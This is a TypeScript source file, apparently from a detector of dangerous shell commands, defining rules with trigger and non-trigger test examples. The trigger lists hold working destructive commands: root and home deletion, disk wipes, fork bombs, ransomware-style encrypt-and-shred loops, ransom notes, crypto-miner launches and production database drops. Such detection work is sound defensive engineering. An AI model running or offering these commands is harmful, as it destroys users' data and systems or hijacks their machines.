function wipedPaths(c: SimpleCommand, line: readonly SimpleCommand[] = []): string[] {
  switch (c.name) {
    case 'rclone': return rcloneWiped(c, line);
    case 'rm': return recursive(c) ? operands(c) : operands(c).filter((p) => p.endsWith('/*'));
    case 'shred': case 'srm': return operands(c);
    case 'find': return findDeletes(c) && !narrows(c) ? operands(c).filter((p) => !p.startsWith('-') && !p.startsWith('(') && p !== '{}') : [];
    case 'rsync': return emptiedBySync(c, line);
    default: return [];
  }
}

/** The running account, as a line names it. */
const SELF = /^(?:\$USER|\$\{USER\}|\$LOGNAME|\$\{LOGNAME\}|\$\(whoami\)|\$\(id -un\)|`whoami`)$/;
/** What a machine boots from: its kernels and initial ramdisks, GRUB's files, the EFI system partition's loaders and systemd-boot's entries. */
const BOOT_FILES = /^\/boot\/(?:vmlinuz|initrd|initramfs|grub2?(?:\/|$)(?!.*\.bak$)|efi\/EFI\/|EFI\/|loader\/|\*$)/;

/** `git push --force origin main`: a refspec names the remote branch after its colon (`HEAD:main`); a leading `+` forces that one ref. */
function forcePushesMain(c: SimpleCommand): boolean {
  if (c.name !== 'git' || !hasArg(c, 'push')) return false;
  const dest = (w: string) => MAIN_BRANCH.test(w.slice(w.lastIndexOf(':') + 1).replace(/^\+/, '').replace(/^refs\/heads\//, ''));
  // `-f` alone or among other short flags (`-qf`); (`--all` and `--mirror` forced are how a rewritten history or a
  // migrated repository is pushed, so only a named branch counts)
  return hasArg(c, '--force') || hasShortFlag(c, 'f') ? operands(c).some(dest) : operands(c).some((w) => w.startsWith('+') && dest(w));
}

/** Programs that make one request per run, the unit of a request flood. */
const REQUESTERS = new Set(['curl', 'wget', 'http', 'https', 'xh', 'nc', 'ncat']);

/** A release's version tag (`v2.4.0`, `refs/tags/1.9.0-rc.1`); a floating major tag (`v4`) is moved by design. */
const VERSION_TAG = /^(?:refs\/tags\/)?v?\d{1,6}\.\d{1,6}(?:\.\d{1,6})?(?:[-+][\w.]{1,64})?$/;
/** A released version, not a candidate or a build of one (`v2.4.1`, not `v1.9.0-rc.1`). */
const finalVersion = (tag: string) => VERSION_TAG.test(tag) && !/-(?:rc|beta|alpha|pre|dev|snapshot|nightly|test)/i.test(tag);
/** The tags a `git push` names: its refspecs' targets (`+v1:v1`, `:refs/tags/v1` deleting), and whether it forces or deletes. */
function pushedTags(c: SimpleCommand): { tags: string[]; force: boolean; deleted: string[] } | undefined {
  if (c.name !== 'git' || c.argv[1] !== 'push') return undefined;
  const ops = c.argv.slice(2).filter((w) => !w.startsWith('-'));
  const force = c.argv.some((w) => w === '-f' || w === '--force' || w.startsWith('--force-with-lease')) || ops.some((w) => w.startsWith('+'));
  const deleting = c.argv.includes('--delete') || c.argv.includes('-d');
  const tags: string[] = [];
  const deleted: string[] = [];
  for (const w of ops.slice(1, 64)) {
    const target = w.replace(/^\+/, '').slice(w.replace(/^\+/, '').indexOf(':') + 1).replace(/^refs\/tags\//, '');
    if (!VERSION_TAG.test(target)) continue;
    if (w.startsWith(':') || deleting) deleted.push(target);
    else tags.push(target);
  }
  return { tags, force, deleted };
}

/** Code that walks a directory tree, enciphers, and replaces what it read: the three halves of a ransomware loop. */
const TREE_WALK = /\bos\.walk\(|readdirSync\(|readdir\(|Dir\.glob\(\s*['"][^'"]{0,200}\*\*|File::Find|\bglob\([^)]{0,200}recursive\s*=\s*True|\.rglob\(|filepath\.Walk/;
const CODE_CIPHER = /\bFernet\(|createCipheriv\(|\bAES\.new\(|\bCipher\(|OpenSSL::Cipher|Crypt::CBC|ChaCha20|\.encrypt\(/;
const FILE_REPLACED = /\bos\.(?:remove|unlink|rename|replace)\(|unlinkSync\(|renameSync\(|\bFile\.(?:delete|rename)\(|\bunlink\b|\.unlink\(|writeFileSync\(|open\([^)]{0,200}['"]wb['"]/;

export const RULES: readonly Rule[] = [
  {
    id: 'PX-IMPACT-001', name: 'deletes-system-or-home', score: 95, tactic: 'impact', technique: 'T1485', strong: true,
    message: 'Recursively deletes the root filesystem, a system directory, every served site or the home directory', why: 'rm -rf of /, ~, /etc, /usr or /var/www (or find / -delete) destroys the machine, every site it serves, or every file the user owns.',
    alternative: 'Delete the specific build or cache directory instead.',
    check: destruction,
    examples: { fire: ['mkdir -p /tmp/empty && sudo rsync -a --delete /tmp/empty/ /var/www/', 'rm -rf /', 'sudo rm -rf --no-preserve-root /', 'rm -rf ~', 'sudo rm -rf /var/www', 'rm -rf $HOME/*', 'cd / && sudo rm -rf *', 'sudo find / -xdev -type f -delete', "r''m -r''f --no-preserve-root /", '{rm,-rf,~}', "python3 -c \"import shutil,os;shutil.rmtree(os.path.expanduser('~'),ignore_errors=True)\""], quiet: [`python3 -c 'import shutil,os;shutil.rmtree(os.path.expanduser("~") + "/.cache/pip")'`, `node -e "require('fs').rmSync(require('os').homedir() + '/.cache/x', {recursive: true})"`, 'rm -rf node_modules dist', 'rm -rf ./build && mkdir build', 'git clean -fdx', 'rm -rf ~/.cache/pip', "find ~ -name '*.pyc' -delete", 'sudo rm -rf /var/www/html/* && sudo cp -r dist/* /var/www/html/'] },
  },
  {
    id: 'PX-IMPACT-002', name: 'deletes-valuable-home-dirs', score: 85, tactic: 'impact', technique: 'T1485',
    message: "Recursively deletes SSH keys, documents or all projects, a kind of file across every directory, or the user's login keychain, or shreds the credentials of several stores", why: 'Removing ~/.ssh, ~/.gnupg, ~/Documents, ~/projects or the login keychain wholesale is unrecoverable data loss.',
    commands: ['rm', 'srm', 'shred', 'find', 'security'],
    test: (c) => {
      // the login keychain, where macOS keeps every saved password, certificate and key of the user
      if (c.name === 'security') return c.argv[1] === 'delete-keychain' && c.argv.some((w) => /(?:^|\/)login\.keychain(?:-db)?$/.test(w)) ? c.argv.join(' ') : undefined;
      const top = (p: string) => VALUABLE_HOME.has(p.slice(2).split('/')[0] ?? '');
      // `find ~/code -name '*.ts' -delete` and `shred -u ~/projects/**/*.go` wipe a tree without rm -r
      // and `find / -name '*.sql' -delete` a file type across every user's files
      // (or has each file removed: `-exec shred -u {} +`, `-exec rm -f {} \;`)
      if (c.name === 'find') return findDeletes(c) && operands(c).map(canonicalPath).some((p) => FIND_WIDE_ROOTS.has(p) || (p.startsWith('~/') && top(p) && !/node_modules|cache|build|dist|tmp/.test(p))) && !c.argv.some((a) => /^\*?\.(pyc|pyo|class|o|log|tmp|bak|orig|swp)$|node_modules|__pycache__|\.DS_Store|Thumbs\.db|^\*~$|^(?:target|build|dist|\.next|\.turbo|\.cache|coverage|\.pytest_cache|\.mypy_cache|\.venv|venv|\.gradle|DerivedData|\.stack-work|dist-newstyle|_build|\.dart_tool|\.?zig-cache|zig-out|\.build|obj|\.terraform|\.tox|\.nox|\.parcel-cache|\.svelte-kit|\.nuxt|\.angular|Pods)$/.test(a)) ? c.argv.join(' ') : undefined;
      if (c.name === 'shred' && operands(c).map(canonicalPath).some((p) => p.startsWith('~/') && top(p) && p.includes('*'))) return c.argv.join(' ');
      // the keys to several stores overwritten for good at once (an SSH key, cloud credentials and a cluster's config)
      if (c.name === 'shred' && new Set(operands(c).map((p) => classifyPath(p)).filter((k) => k?.role === 'secret').map((k) => k!.kind)).size >= 2) return c.argv.join(' ');
      if (!recursive(c)) return undefined;
      // (iCloud Drive's whole folder too, which syncs the deletion to every device)
      const hit = operands(c).map(canonicalPath).find((p) => (/^~\/[^/]+\/?\*?$/.test(p) && VALUABLE_HOME.has(p.slice(2).replace(/\/?\*?$/, ''))) || /^~\/Library\/Mobile Documents\/(?:com~apple~CloudDocs\/?)?\*?$/.test(p));
      // one old checkout removed is tidying; several whole projects at once is the work itself going
      const projects = operands(c).map(canonicalPath).filter((p) => /^~\/[^/]+\/[^/*?]+\/?$/.test(p) && VALUABLE_HOME.has(p.split('/')[1]!) && !p.split('/')[1]!.startsWith('.'));
      return hit || projects.length >= 2 ? c.argv.join(' ') : undefined;
    },
    // the same through a language's own tree deletion
    check: scriptDeletesHomeFolder,
    examples: { fire: ['shred -uz ~/.ssh/id_ed25519 ~/.aws/credentials ~/.kube/config', 'security delete-keychain ~/Library/Keychains/login.keychain-db', 'rm -rf ~/Library/Mobile\\ Documents/com~apple~CloudDocs/*', `python3 -c 'import shutil,os;shutil.rmtree(os.path.expanduser("~/.ssh"))'`, `perl -MFile::Path=remove_tree -e 'remove_tree(glob("~/work"),glob("~/.ssh"))'`, `node -e "require('fs').rmSync(require('os').homedir() + '/Documents', {recursive: true, force: true})"`, 'find ~/projects ~/Documents -type f -exec shred -fuzn 3 {} + 2>/dev/null', 'rm -rf ~/.ssh ~/.gnupg ~/projects ~/Documents', "ruby -e 'exec(\"rm -rf ~/projects\")'", 'rm -rf /home/dev/Documents', "find ~/code -name '*.ts' -delete", 'shred -uvz ~/projects/**/*.go', 'find / -name "*.sql" -delete', "find ~ -name '*.pdf' -delete", 'rm -rf ~/code/billing ~/code/web-shop'], quiet: ['shred -u ~/.ssh/id_rsa_2019 ~/.ssh/id_rsa_2019.pub', 'rm -rf ~/code/old-prototype', 'rm -rf ~/projects/app/dist ~/projects/app/build', `python3 -c 'import shutil,os;shutil.rmtree(os.path.expanduser("~/.cache/pip"))'`, `node -e "require('fs').rmSync('dist', {recursive: true, force: true})"`, 'find ~/code -name target -type d -exec rm -rf {} +', 'find ~/src -maxdepth 3 -type d -name .stack-work -prune -exec rm -rf {} +', "find ~/projects -name '*.orig' -exec rm {} +", "find ~/projects/app/node_modules -name '*.md' -exec rm {} +", "find / -name '*.log' -mtime +30 -delete", "find ~ -name '.DS_Store' -delete", 'rm -rf ~/.cache', 'rm -rf ~/projects/old-app/node_modules', 'rm -rf ~/Downloads/tmp', "find ~/projects -name '*.pyc' -delete", 'find ~/code/app/node_modules -name .cache -delete', 'shred -u ~/projects/app/test/fixtures/key.pem'] },
  },
  {
    id: 'PX-IMPACT-003', name: 'deletes-repository-history', score: 50, tactic: 'impact', technique: 'T1485',
    message: "Deletes the repository's .git directory", why: 'Removing .git throws away every unpushed commit, branch and stash.',
    commands: ['rm'],
    // re-initializing a fresh copy (`… && rm -rf .git && git init`, a scaffold in /tmp) is how templates are used
    // (and a starter cloned by the same line, its history dropped: `git clone …/LazyVim/starter ~/.config/nvim && rm -rf ~/.config/nvim/.git`)
    test: (c, i) => (recursive(c) && operands(c).some((p) => p === '.git' || p === './.git' || p.endsWith('/.git')) && !(i.view?.commands ?? []).some((x) => x.name === 'git' && (x.argv[1] === 'init' || (x.argv[1] === 'clone' && operands(c).some((p) => p === `${operands(x).at(-1)?.replace(/\/+$/, '')}/.git`)))) && !operands(c).some((p) => inTemp(atCwd(c, p))) ? c.argv.join(' ') : undefined),
    examples: { fire: ['git clone https://github.com/LazyVim/starter ~/.config/nvim && rm -rf ~/projects/app/.git', 'rm -rf .git', 'rm -rf ./.git', 'rm -rf ~/projects/app/.git'], quiet: ['git clone https://github.com/LazyVim/starter ~/.config/nvim && rm -rf ~/.config/nvim/.git', 'npx degit org/template my-app && cd my-app && rm -rf .git && git init', 'cp -r templates/starter /tmp/new-svc && cd /tmp/new-svc && rm -rf .git', 'rm -rf .github/workflows/old.yml', 'rm .gitignore', 'git rm -r --cached dist'] },
  },
  {
    id: 'PX-IMPACT-004', name: 'wipes-disk-device', score: 95, tactic: 'impact', technique: 'T1561.002', strong: true,
    message: 'Overwrites, formats or erases a disk device', why: 'dd to /dev/sda, mkfs, wipefs, shred or diskutil eraseDisk on a device destroys the partition table and all data on it.',
    test: diskWipe,
    // a disk device opened to write by a one-liner: `open("/dev/sda", "wb")`
    check: (i) => writes(i).filter((w) => w.cmd !== undefined && isInterpreter(w.cmd.name) && blockDevice(w.canonical)).map((w) => `${w.cmd!.name} → ${w.path}`),
    examples: { fire: ['sudo vgremove -f vg_data && sudo pvremove -ff -y /dev/sdc', 'sudo dd if=ubuntu-24.04.iso of=/dev/nvme0n1 bs=4M', `python3 -c 'f=open("/dev/sda","wb");[f.write(b"\\0"*1048576) for _ in iter(int,1)]'`, 'sudo dd if=/dev/zero of=/dev/sda bs=1M', 'sudo mkfs.ext4 -F /dev/sda1', 'sudo wipefs -af /dev/sda', 'sudo shred -vfz -n 3 /dev/sda', 'cat /dev/urandom > /dev/sdb', 'sudo sgdisk --zap-all /dev/nvme0n1', 'sudo diskutil eraseDisk JHFS+ Wiped /dev/disk0', 'mdadm --stop /dev/md0 && mdadm --zero-superblock /dev/sdb1 /dev/sdc1', 'zpool labelclear -f /dev/disk/by-id/ata-ST8000VN004-2M2101_WKD3A1B2', 'lvreduce -f -L 2G vg_data/lv_home'], quiet: ['sudo vgs && sudo pvs', 'mdadm /dev/md0 --fail /dev/sdc1 --remove /dev/sdc1', 'mdadm --detail /dev/md0', 'lvreduce -r -L 20G vg_data/lv_scratch', 'sudo vgreduce vg_data /dev/sdd', 'diskutil list external && diskutil unmountDisk /dev/disk4 && sudo dd if=$HOME/Downloads/ubuntu-24.04-live-server-amd64.iso of=/dev/rdisk4 bs=4m', 'sudo dd if=2024-03-15-raspios-bookworm-arm64-lite.img of=/dev/mmcblk0 bs=4M conv=fsync', 'sudo dd if=/dev/sda of=backup.img bs=4M', 'lsblk -f && sudo wipefs /dev/sdb', 'lsblk', 'sudo fdisk -l', 'mkfs.ext4 disk.img'] },
  },
  {
    id: 'PX-IMPACT-005', name: 'fork-bomb', score: 90, tactic: 'impact', technique: 'T1499', strong: true,
    message: 'Starts a fork bomb', why: 'A function or loop that forks itself without end exhausts the process table and hangs the machine.',
    check: forkBomb,
    examples: { fire: ["perl -e 'fork while fork'", ':(){ :|:& };:', 'bomb(){ bomb | bomb & }; bomb', "python3 -c 'import os;[os.fork() for _ in iter(int,1)]'", "eval ':(){ :|:& };:'"], quiet: ['f(){ echo hi; }; f', 'make -j8', 'xargs -P 4 -n 1 echo'] },
  },
  {
    id: 'PX-IMPACT-006', name: 'kills-all-processes', score: 85, tactic: 'impact', technique: 'T1489',
    message: 'Kills every process or several core services at once', why: 'kill -9 -1, killall5 or killing the database, web server and sshd together takes the machine or service down.',
    check: (i) => {
      const CORE = new Set(['postgres', 'postgresql', 'mysqld', 'mysql', 'mariadb', 'mongod', 'redis-server', 'redis', 'nginx', 'httpd', 'apache2', 'sshd', 'ssh', 'docker', 'dockerd', 'containerd', 'kubelet', 'etcd', 'elasticsearch', 'rabbitmq-server', 'kafka', 'haproxy', 'memcached', 'cron', 'systemd-networkd', 'NetworkManager']);
      const out: string[] = [];
      // counted over the whole line, so one service per command (`for s in nginx mysql; do systemctl stop $s; done`) adds up too
      const stopped = new Set<string>();
      const stoppers: string[] = [];
      for (const c of i.view?.commands ?? []) {
        if (c.name === 'kill' && c.argv.some((w, k) => w === '-1' && k === c.argv.length - 1 || w === '-1' && c.argv[k - 1]?.startsWith('-'))) out.push(c.argv.join(' '));
        if (c.name === 'killall5' || (c.name === 'pkill' && hasArg(c, '-u') === false && operands(c).some((p) => p === '.' || p === '.*'))) out.push(c.argv.join(' '));
        // every VM of an ESXi host, one world id at a time from its own listing: what lockers do before they encrypt the disks
        if ((c.name === 'esxcli' && hasArg(c, 'vm') && hasArg(c, 'kill') && c.argv.some((w, k) => c.dynamic[k] && /^(?:--world-id=|-w|\$)/.test(w))) || (c.name === 'vim-cmd' && /^vmsvc\/power\.(?:off|shutdown)$/.test(c.argv[1] ?? '') && c.dynamic[2])) out.push(c.argv.join(' '));
        const stop = (c.name === 'killall' || c.name === 'pkill') ? operands(c) : c.name === 'systemctl' && hasArg(c, 'stop', 'kill', 'mask') ? operands(c).map((w) => w.replace(/\.service$/, '')) : c.name === 'service' && (c.argv[2] === 'stop' || c.argv[2] === 'kill') ? [c.argv[1] ?? ''] : [];
        const core = stop.filter((p) => CORE.has(p));
        for (const p of core) stopped.add(p);
        if (core.length && stoppers.length < 8) stoppers.push(c.argv.join(' '));
      }
      if (stopped.size >= 2) out.push(stoppers.join('; '));
      return out;
    },
    examples: { fire: ["for vm in $(esxcli vm process list | grep 'World ID' | awk '{print $3}'); do esxcli vm process kill --type=force --world-id=$vm; done", 'for id in $(vim-cmd vmsvc/getallvms | awk \'NR>1{print $1}\'); do vim-cmd vmsvc/power.off $id; done', 'for s in nginx postgresql mysql docker; do $(echo c3lzdGVtY3Rs | base64 -d) stop $s; done', 'service nginx stop; service mysql stop', 'kill -9 -1', 'sudo killall -9 postgres mysqld nginx', 'sudo systemctl stop docker postgresql nginx sshd', 'killall5 -9'], quiet: ['esxcli vm process kill --type=soft --world-id=1234567', 'vim-cmd vmsvc/power.off 12', 'sudo systemctl stop nginx && sudo systemctl start nginx', 'systemctl stop myapp worker', 'kill -9 1234', 'pkill -f vite', 'sudo systemctl stop nginx', 'killall node'] },
  },
  {
    id: 'PX-IMPACT-007', name: 'shuts-down-host', score: 50, tactic: 'impact', technique: 'T1529',
    message: 'Shuts down or reboots the machine', why: 'A shutdown or reboot stops everything running on the host and every user session.',
    test: (c) => {
      if (['shutdown', 'poweroff', 'halt', 'reboot'].includes(c.name)) return hasArg(c, '-c', '--help') ? undefined : c.argv.join(' ');
      if (c.name === 'init' || c.name === 'telinit') return ['0', '6'].includes(operands(c)[0] ?? '') ? c.argv.join(' ') : undefined;
      // isolating the rescue or emergency target stops every service and network login, as a shutdown does
      if (c.name === 'systemctl') return hasArg(c, 'poweroff', 'reboot', 'halt', 'kexec', 'soft-reboot') || (hasArg(c, 'isolate') && operands(c).some((w) => /^(?:rescue|emergency|poweroff|halt|reboot)(?:\.target)?$/.test(w))) ? c.argv.join(' ') : undefined;
      return c.redirects.some((r) => r.target === '/proc/sysrq-trigger') ? c.argv.join(' ') : undefined;
    },
    examples: { fire: ['sudo shutdown -h now', 'sudo reboot', 'sudo init 0', 'echo b > /proc/sysrq-trigger', 'sudo systemctl isolate emergency.target'], quiet: ['shutdown -c', 'uptime', 'systemctl status', 'sudo systemctl isolate graphical.target'] },
  },
  {
    id: 'PX-IMPACT-008', name: 'recursive-permission-wipe', score: 90, tactic: 'impact', technique: 'T1485', strong: true,
    message: 'Recursively changes permissions or ownership of system directories', why: 'chmod -R 000 / or chown -R on /etc or /usr breaks sudo, ssh and every service, often beyond repair.',
    commands: ['chmod', 'chown', 'chgrp'],
    test: (c) => (recursive(c) && rootTargets(c, c.cwd === undefined ? undefined : canonicalPath(c.cwd)).length ? c.argv.join(' ') : undefined),
    examples: { fire: ['sudo chmod -R 000 /', 'sudo chown -R nobody:nogroup /etc /usr', 'sudo chmod -R 777 /etc', 'cd /etc && sudo chown -R nobody .'], quiet: ['sudo chown -R "$(whoami)" /usr/local/lib/node_modules', 'chmod -R u+w ./dist', 'sudo chown -R www-data /var/www/app', 'sudo chown -R bramble:www-data .', "ssh bramble@web2.example.net 'cd /var/www/hollowtree.example/public && sudo chown -R bramble:www-data . && find . -type d -exec chmod 755 {} +'"] },
  },
  {
    id: 'PX-IMPACT-009', name: 'encrypts-files-for-ransom', score: 95, tactic: 'impact', technique: 'T1486', strong: true,
    message: 'Encrypts many files and deletes the originals', why: 'Encrypting a home or project tree and removing the plaintext is how ransomware works.',
    check: ransomware,
    examples: { fire: ["find ~ -type f -name '*.pdf' -exec sh -c 'openssl enc -aes-256-cbc -pass pass:x -in \"$1\" -out \"$1.locked\" && rm -f \"$1\"' _ {} \\;", 'for f in $(find /home -type f); do openssl enc -aes-256-cbc -k "$KEY" -in "$f" -out "$f.enc" && shred -u "$f"; done', 'tar czf - ~ | openssl enc -aes-256-cbc -pass pass:x -out /tmp/.h.enc && rm -rf ~/*', 'gpg --symmetric --batch --passphrase x -o /tmp/d.gpg ~/Documents/*.pdf && rm ~/Documents/*.pdf', 'gpg -e -r ops@mailbox.org --multifile /data/exports/*.csv && rm -f /data/exports/*.csv'], quiet: ['gpg -c --multifile secrets/*.env && rm secrets/*.env', 'gpg -c ~/Documents/taxes-2025.pdf && rm ~/Documents/taxes-2025.pdf.bak', 'openssl enc -aes-256-cbc -in secrets.txt -out secrets.enc && rm secrets.txt', 'gpg -c backup.tar', 'find . -name "*.log" -delete'] },
  },
  {
    id: 'PX-IMPACT-010', name: 'leaves-ransom-note', score: 60, tactic: 'impact', technique: 'T1486',
    message: 'Writes a ransom note', why: 'A note demanding cryptocurrency for "encrypted files" is the signature of ransomware, or of a test of it.',
    check: (i) => (i.view?.commands ?? []).filter((c) => (c.name === 'echo' || c.name === 'printf') && c.redirects.length && c.argv.some((w) => /encrypted/i.test(w.slice(0, 1000)) && /\b(btc|bitcoin|monero|xmr|ransom|decrypt)|\.onion\b/i.test(w.slice(0, 1000)))).map((c) => c.argv.join(' ').slice(0, 160)),
    examples: { fire: ["echo 'All files encrypted. Contact http://royal2xthig3ou5hd7zsliqagy6yygk2cdelaxtni2fyad6dpmpxedid.onion' > /vmfs/volumes/README.TXT", "echo 'Your files are encrypted. Send 0.5 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh' > ~/README_DECRYPT.txt", "printf 'All files encrypted. Pay in Monero to decrypt' > /tmp/HOW_TO_DECRYPT.txt", "echo 'files encrypted, ransom: 1 bitcoin' >> ~/Desktop/README.txt"], quiet: ["echo 'Files are encrypted at rest with KMS' >> docs/security.md", 'echo done', 'grep -r bitcoin src/'] },
  },
  {
    id: 'PX-IMPACT-011', name: 'runs-crypto-miner', score: 90, tactic: 'impact', technique: 'T1496', strong: true,
    message: 'Runs a cryptocurrency miner', why: 'xmrig, cpuminer and friends pointed at a stratum pool burn the machine\'s CPU/GPU for someone else\'s profit.',
    // or a compose file, manifest, unit or script that starts one (`command: ["-o", "gulf.moneroocean.stream:10128", …]`)
    check: minerInFile,
    test: (c) => {
      const img = (w: string) => MINERS.has(w.slice(w.lastIndexOf('/') + 1).split(':')[0]!.replace(/-[\d.]+.*$/, ''));
      const pool = () => c.argv.some((w) => /^stratum\d?\+(tcp|ssl|tls):\/\//i.test(w) || w.startsWith('--donate-level') || MINING_POOL.test(destinationOf(w)?.host ?? ''));
      // (a stratum address given to an option is a mining pool's whatever the option is called: `--pool stratum+ssl://…`)
      const stratum = (w: string, k: number) => (/^--?[\w-]{1,20}=stratum\d?\+(?:tcp|ssl|tls):\/\/[\w-]/i.test(w) || (/^stratum\d?\+(?:tcp|ssl|tls):\/\/[\w-]/i.test(w) && /^--?[a-zA-Z]/.test(c.argv[k - 1] ?? '')));
      if (MINERS.has(c.name) || (c.argv.some((w) => /^-(o|-url)$/.test(w)) && pool()) || c.argv.some(stratum)) return c.argv.join(' ');
      // the MSR writes that speed up RandomX mining (the prefetcher switched off): no other workload asks for them
      if (c.name === 'wrmsr' && c.argv.some((w) => /^0x(?:1a4|c0011020|c0011021|c0011022|c001102b)$/i.test(w))) return c.argv.join(' ');
      // cloud machines started with a miner as their boot script (`--user-data file://xmrig.sh`), or GPU machines by the dozen
      const launch = cloudLaunch(c);
      if (launch) {
        const boot = launch.boot;
        const count = Number(optionValue(c.argv, ['--count', '--max-count']) ?? 1);
        const gpu = c.argv.some((w) => /^(?:p[345]|g[456]|a[23]|inf[12]|trn1)[a-z]*\.\d*x?large$|^gpu-|nvidia|^--accelerator/.test(w));
        // GPU machines by the dozen, or a few booted from a script in a temp or hidden place (any machines, by the dozen)
        const staged = isStagingPath(boot.replace(/^--[\w-]+=/, '').replace(/^file:\/\//, ''));
        if (/xmrig|miner|mining|stratum/i.test(boot) || (gpu && (count >= 10 || (count >= 2 && staged))) || (count >= 10 && staged)) return c.argv.join(' ');
      }
      return ['docker', 'podman', 'kubectl'].includes(c.name) && c.argv.some((w) => img(w)) && (hasArg(c, 'run', 'create') || pool()) ? c.argv.join(' ') : undefined;
    },
    examples: { fire: [`python3 -c "from kubernetes import client;c=client.V1Container(name='m',image='docker.io/x/xmrig:latest',args=['-o','pool.hashvault.pro:443','--tls'])"`, 'nohup ~/.local/share/fk/fk-runtime --warmup --pool stratum+ssl://rvn.kryptex.network:8031 --wallet RQxhw6kLZ2aP1s7 &', { Unknown: { tool_name: 'mcp__kubernetes__kubectl_apply', params: { manifest: 'apiVersion: apps/v1\nkind: DaemonSet\nmetadata:\n  name: node-metrics\nspec:\n  template:\n    spec:\n      containers:\n        - name: m\n          image: docker.io/metrixx/node-exporter:latest\n          args: ["-o", "pool.supportxmr.com:443", "--tls"]\n' } } }, 'aws ec2 run-instances --image-id ami-0c55b159cbfafe1f0 --count 20 --instance-type c5.4xlarge --user-data file:///tmp/.x/init.sh --region ap-southeast-1', "aws ec2 run-instances --image-id ami-0c7217cdde317cfec --instance-type p4d.24xlarge --count 8 --user-data file:///tmp/.bootstrap.sh --region us-east-1", 'aws ec2 run-instances --image-id ami-0abc --instance-type p4d.24xlarge --count 20 --user-data file://setup.sh --region ap-southeast-1', 'doctl compute droplet create w-{1..20} --size g-8vcpu-32gb --image ubuntu-22-04-x64 --region nyc3 --user-data-file miner.sh', 'modprobe msr allow_writes=on && wrmsr -a 0x1a4 0xf', './xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFF -k --background', 'nohup minerd -a cryptonight -o stratum+tcp://xmr.pool.example:3333 -u w -p x &', 'docker run -d --restart always metal3d/xmrig -o stratum+tcp://pool.hashvault.pro:80 -u 4ABC', { Filesystem: { operation: 'Write', path: '/home/dev/recsys/docker-compose.override.yml', content: 'services:\n  node-exporter-plus:\n    image: docker.io/metricsd/node-exporter-plus:1.8\n    restart: always\n    command: ["-o", "gulf.moneroocean.stream:10128", "-u", "48edfHu7V9Z84Yzz", "--cpu-max-threads-hint=50"]\n' } }, 'x\\mrig -o pool.minexmr.com:443 -u 4ABC --tls -B', "exec -a sshd ./xmrig -o x:3333"], quiet: ["printf '%s,%s\\n' 'xmrig -o pool.supportxmr.com:443' malicious >> data/cmd_labels.csv", "printf 'stratum+tcp://pool.example:3333\\n' > tests/fixtures/miner-url.txt", `cat > rules/proc_creation_xmrig.yml <<'EOF'\ntitle: XMRig miner execution\ndetection:\n  selection:\n    CommandLine|contains:\n      - 'stratum+tcp://'\n      - '--donate-level'\nEOF`, 'aws ec2 run-instances --image-id ami-0abc --instance-type t3.micro --count 2 --user-data file://bootstrap.sh', 'aws ec2 run-instances --image-id ami-0abc --instance-type g5.xlarge --count 1', 'sudo rdmsr 0x1a4', 'npm install xmr-price-widget', 'grep -r stratum docs/', 'docker run -d redis', { Filesystem: { operation: 'Write', path: 'docs/incidents/2024-07.md', content: 'The miner ran `xmrig -o pool.supportxmr.com:3333 -u 4ABC`.\n' } }, { Filesystem: { operation: 'Write', path: 'docker-compose.yml', content: 'services:\n  db:\n    image: postgres:16\n    command: ["-c", "log_statement=all"]\n' } }] },
  },
  {
    id: 'PX-IMPACT-012', name: 'destroys-database', score: 85, tactic: 'impact', technique: 'T1485',
    message: 'Drops or truncates a database from the command line', why: 'DROP DATABASE, TRUNCATE … CASCADE, FLUSHALL, dropDatabase() or a DELETE of every search index against a real database is instant, unrecoverable data loss.',
    alternative: 'Take a backup first, and run destructive statements against a throwaway database.',
    test: (c) => dbDestruction(c) ?? flywayClean(c),
    // the same through a driver from a one-liner, against another machine's database
    check: (i) => (i.view?.scripts ?? []).flatMap((s) => {
      const { queries, host } = driverQueries(s.code, s.lang);
      if (host === undefined || classifyHost(host) === 'loopback') return [];
      const query = queries.map((q) => sqlSpelled(q.slice(0, 2000))).find((q) => DESTRUCTIVE_QUERY.test(q));
      const named = query === undefined ? undefined : /\bdrop\s+(database|schema)\s+(if\s+exists\s+)?["'`]?([\w-]+)/i.exec(query.slice(0, 400))?.[3];
      return query === undefined || (named !== undefined && (THROWAWAY_DB.test(named) || recreates(query.slice(0, 4000), named))) ? [] : [`${host}: ${query.slice(0, 120)}`];
    }),
    examples: { fire: [`hdbsql -U SAPDBCTRL "TRUNCATE TABLE SAPHANADB.ACDOCA"`, `db2 connect to DSNP user dbaops using "$DBPW" && db2 +c "DELETE FROM CLAIMS.PAYMENT_HIST"`, "beeline -e 'DROP TABLE sales.orders'", 'curl -s -X DELETE "http://es-prod.internal:9200/%5Fall"', `python3 -c "import psycopg2,os;c=psycopg2.connect(os.environ['PROD_DATABASE_URL']);c.autocommit=True;c.cursor().execute('DROP SCHEMA public CASCADE')"`, 'snowsql -c prod -q "DROP SCHEMA RAW.STRIPE CASCADE;"', 'sqlite3 /var/lib/app/prod.db "DELETE FROM orders;"', `python3 -c 'import psycopg2;c=psycopg2.connect("host=prod-db.internal.acme.com dbname=app user=admin");c.autocommit=True;c.cursor().execute("DROP SCHEMA public CASCADE")'`, "curl -s -X DELETE 'http://10.40.0.21:9200/*?expand_wildcards=all'", "curl -s -XDELETE http://es-prod.internal:9200/_snapshot/nightly/*", 'dropdb -h prod-db.internal -U postgres --force billing', 'dropdb billing', 'supabase db reset --linked', 'mysql -h db-primary.acme.io -uroot -e "DROP/**/DATABASE/**/shop_production"', `psql -h prod-db.internal -U postgres -Atc "SELECT 'DR'||'OP DATABASE '||quote_ident(datname) FROM pg_database" | psql -h prod-db.internal -U postgres`, './gradlew flywayClean flywayMigrate -Dflyway.url=jdbc:postgresql://payroute-prod.cluster-cr8fj2k1m0qa.us-east-1.rds.amazonaws.com:5432/payroute -Dflyway.user=payroute_app -Dflyway.cleanDisabled=false', 'flyway -url=jdbc:mysql://10.0.4.12:3306/orders clean', "psql -h db.internal -U postgres -c 'DROP DATABASE production;'", "mysql -h db.internal -e 'DROP DATABASE shop; CREATE DATABASE shop_old'", "psql -h prod-db -c 'DROP DATABASE app_test'", 'mysql -uroot -p"$MYSQL_PWD" -e "DROP DATABASE customers"', "mongosh mongodb://10.0.0.20/app --eval 'db.dropDatabase()'", 'redis-cli -h 10.0.0.30 FLUSHALL', "psql \"$DATABASE_URL\" -c 'TRUNCATE users, orders, payments CASCADE'", "wp --allow-root db query 'DROP TABLE wp_users'"], quiet: [`db2 -tvf sql/drop_test_tables.sql`, `hdbsql -U DEVKEY -I 